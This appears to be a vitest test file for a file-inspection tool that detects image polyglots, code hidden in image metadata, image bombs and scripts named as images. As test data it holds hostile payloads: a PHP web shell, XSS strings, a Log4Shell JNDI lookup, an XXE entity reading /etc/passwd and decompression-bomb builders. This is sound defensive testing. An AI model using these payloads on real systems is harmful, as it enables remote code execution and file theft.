import { deflateSync } from "node:zlib";
import fc from "fast-check";
import { expect, test } from "vitest";
import { inspect } from "../../src/inspect.ts";
import { bufferSource } from "../../src/source.ts";
import * as samples from "../samples/images.ts";
import { zip } from "../samples/zip.ts";

const {
  bmp,
  box,
  gif,
  heif,
  icon,
  jpeg,
  jpegSegment,
  png,
  pngChunk,
  pngText,
  program,
  riffChunk,
  tiff,
  webp,
} = samples;

const archive = zip([{ name: "a.txt", data: Buffer.from("hello") }]);
const pdf = Buffer.from("%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n");
const code = "<?php system($_GET['c']); ?>";
const images: Record<string, Buffer> = {
  "a.png": png(),
  "a.jpg": jpeg(),
  "a.gif": gif(),
  "a.webp": webp(),
  "a.bmp": bmp(),
  "a.tif": tiff(),
  "a.heic": heif(),
  "a.avif": heif({ brand: "avif" }),
  "a.ico": icon(),
};

async function rulesOf(content: Buffer, filename = ""): Promise<string[]> {
  const { findings } = await inspect(bufferSource(content), { filename });
  return findings.filter(({ severity }) => severity !== "low").map(({ rule }) => rule);
}

test("Images have the types of their content, and nothing is found in them.", async () => {
  const types = await Promise.all(
    Object.values(images).map(async (content) => (await inspect(bufferSource(content))).format.type),
  );
  expect(types).toEqual([
    "image/png",
    "image/jpeg",
    "image/gif",
    "image/webp",
    "image/bmp",
    "image/tiff",
    "image/heic",
    "image/avif",
    "image/vnd.microsoft.icon",
  ]);
  for (const [name, content] of Object.entries(images))
    expect(await rulesOf(content, name), name).toEqual([]);
});

test.each([
  ["a ZIP archive", archive],
  ["a ZIP archive with bytes after it", Buffer.concat([archive, Buffer.alloc(50, "x")])],
  ["a PDF", pdf],
  ["a program", program()],
  ["a RAR archive", Buffer.from("Rar!\x1a\x07\x01\0rest of it", "latin1")],
  ["a 7z archive", Buffer.from("7z\xbc\xaf\x27\x1c\0\x04rest of it", "latin1")],
  ["PHP", Buffer.from(code)],
  ["a web page", Buffer.from("<html><script>alert(1)</script></html>")],
])("%s after the end of an image is held, whatever the format of the image.", async (_name, appended) => {
  for (const [name, content] of Object.entries(images))
    for (const padding of [0, 300]) {
      const found = await rulesOf(Buffer.concat([content, Buffer.alloc(padding), appended]), name);
      expect(found, name).toContain("polyglot-embedded-content");
    }
});

test.each([
  ["zeros", Buffer.alloc(1000)],
  ["a second image", jpeg()],
  ["the video of a motion photo", Buffer.concat([box("ftyp", Buffer.from("mp42\0\0\0\0mp42")), box("mdat")])],
  [
    "data of a camera",
    Buffer.from("\0\0\x01\x0a\x0e\0\0\0Image_UTC_Data1650000000000SEFHk\0\0\0SEFT", "latin1"),
  ],
])("%s after a JPEG are released.", async (_name, appended) => {
  expect(await rulesOf(Buffer.concat([jpeg(), appended]), "a.jpg")).toEqual([]);
});

test("A page before the header of a PDF is held, and other junk is not.", async () => {
  const page = Buffer.from("<html><script>alert(1)</script>\n");
  expect(await rulesOf(Buffer.concat([page, pdf]), "a.pdf")).toEqual(["polyglot-two-formats"]);
  expect(await rulesOf(Buffer.concat([Buffer.from("\r\nHTTP/1.1 200 OK\r\n\r\n"), pdf]), "a.pdf")).toEqual(
    [],
  );
});

test("Data after an image is recorded.", async () => {
  const { findings } = await inspect(bufferSource(Buffer.concat([jpeg(), Buffer.from([1, 2, 3, 4])])));
  expect(findings).toContainEqual(
    expect.objectContaining({ rule: "image-trailing-data", severity: "low", evidence: { bytes: 4 } }),
  );
});

const metadata: [string, (text: string) => Buffer][] = [
  ["a text chunk of a PNG", (text) => png({ chunks: [pngText(text)] })],
  ["a compressed chunk of a PNG", (text) => png({ chunks: [pngText(text, { isCompressed: true })] })],
  ["a comment of a JPEG", (text) => jpeg({ segments: [jpegSegment(0xfe, Buffer.from(text))] })],
  ["EXIF in UTF-16", (text) => jpeg({ segments: [jpegSegment(0xe1, Buffer.from(text, "utf16le"))] })],
  ["a comment of a GIF", (text) => gif({ comment: text })],
  ["XMP of a WebP", (text) => webp({ chunks: [riffChunk("XMP ", Buffer.from(text))] })],
  ["a description of a TIFF", (text) => tiff({ description: text })],
];

test.each(metadata)("Code in %s is held.", async (_name, withText) => {
  for (const text of [
    code,
    "<script>alert(1)</script>",
    "<?=`$_GET[0]`?>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "eval(atob('YQ=='))",
    `$${"{jndi:ldap://example.com/a}"}`,
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    '<!DOCTYPE plist SYSTEM "http://example.com/a.dtd">',
  ])
    expect(await rulesOf(withText(text)), text).toContain("image-metadata-code");
});

test.each(metadata)("A description in %s is released.", async (_name, withText) => {
  for (const text of [
    "Photo by A. Smith (metric system (meters)). Please confirm.",
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:title>Evaluation (final) of 5 < 6</dc:title></x:xmpmeta>',
    '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
    "A <b>bold</b> caption with a <a href='https://example.com/'>link</a> about JavaScript: The Good Parts",
  ])
    expect(await rulesOf(withText(text)), text).toEqual([]);
});

test.each([
  ["PNG", png({ width: 40_000, height: 40_000 })],
  ["PNG of few bytes", png({ width: 12_000, height: 12_000 })],
  ["JPEG", jpeg({ width: 64_000, height: 64_000 })],
  ["TIFF", tiff({ width: 100_000, height: 100_000 })],
  ["BMP", bmp({ width: 100_000, height: 100_000 })],
  ["HEIC", heif({ width: 100_000, height: 100_000 })],
  [
    "PNG with a large compressed text",
    png({ chunks: [pngText("a".repeat(40_000_000), { isCompressed: true })] }),
  ],
  [
    "PNG with a large colour profile",
    png({
      chunks: [
        pngChunk("iCCP", Buffer.concat([Buffer.from("icc\0\0"), deflateSync(Buffer.alloc(40_000_000))])),
      ],
    }),
  ],
])("A %s that is far larger than its file is held.", async (_name, content) => {
  expect(await rulesOf(content)).toEqual(["image-bomb"]);
});

test("An image of usual dimensions is released.", async () => {
  expect(await rulesOf(png({ width: 9000, height: 9000 }))).toEqual([]);
});

test.each([
  ["a PDF in the header of an image", Buffer.concat([gif({ comment: "%PDF-1.4" }), Buffer.from("%%EOF")])],
  ["JavaScript in the header of a GIF", gif({ width: 0x2a2f })],
  ["a text that starts as a GIF", Buffer.from("GIF89a=1;alert(1)//")],
])("%s is held.", async (_name, content) => {
  expect(await rulesOf(content)).not.toEqual([]);
});

test.each(["a.jpg", "a.png", "a.gif", "a.webp", "a.mvg.png"])(
  "Code under the name %s is held.",
  async (name) => {
    for (const text of [
      code,
      "%!PS-Adobe-3.0\n",
      "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://example.com/)'\npop graphic-context",
      '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
      "#!/bin/sh\n",
    ])
      expect(await rulesOf(Buffer.from(text), name), text).toContain("image-name-for-code");
  },
);

test("A truncated image is recorded, and an image without pixels is held.", async () => {
  const content = jpeg();
  expect(await rulesOf(content.subarray(0, content.length - 3))).toEqual([]);
  expect(await rulesOf(content.subarray(0, 30))).toEqual(["image-unreadable"]);
});

test("No damage of an image makes a reader fail.", async () => {
  const originals = [...Object.values(images), png({ chunks: [pngText("text", { isCompressed: true })] })];
  const damage = fc.record({
    image: fc.constantFrom(...originals),
    changes: fc.array(fc.tuple(fc.nat(), fc.nat(255)), { maxLength: 8 }),
    end: fc.nat(),
    appended: fc.uint8Array({ maxLength: 20 }),
  });
  await fc.assert(
    fc.asyncProperty(damage, async ({ image, changes, end, appended }) => {
      const bytes = Buffer.concat([
        image.subarray(0, image.length - (end % 20 === 0 ? end % image.length : 0)),
        appended,
      ]);
      for (const [offset, value] of changes) bytes[offset % bytes.length] = value;
      const { findings } = await inspect(bufferSource(bytes));
      expect(findings.map(({ rule }) => rule)).not.toContain("parser-failed");
    }),
    { numRuns: 500 },
  );
});
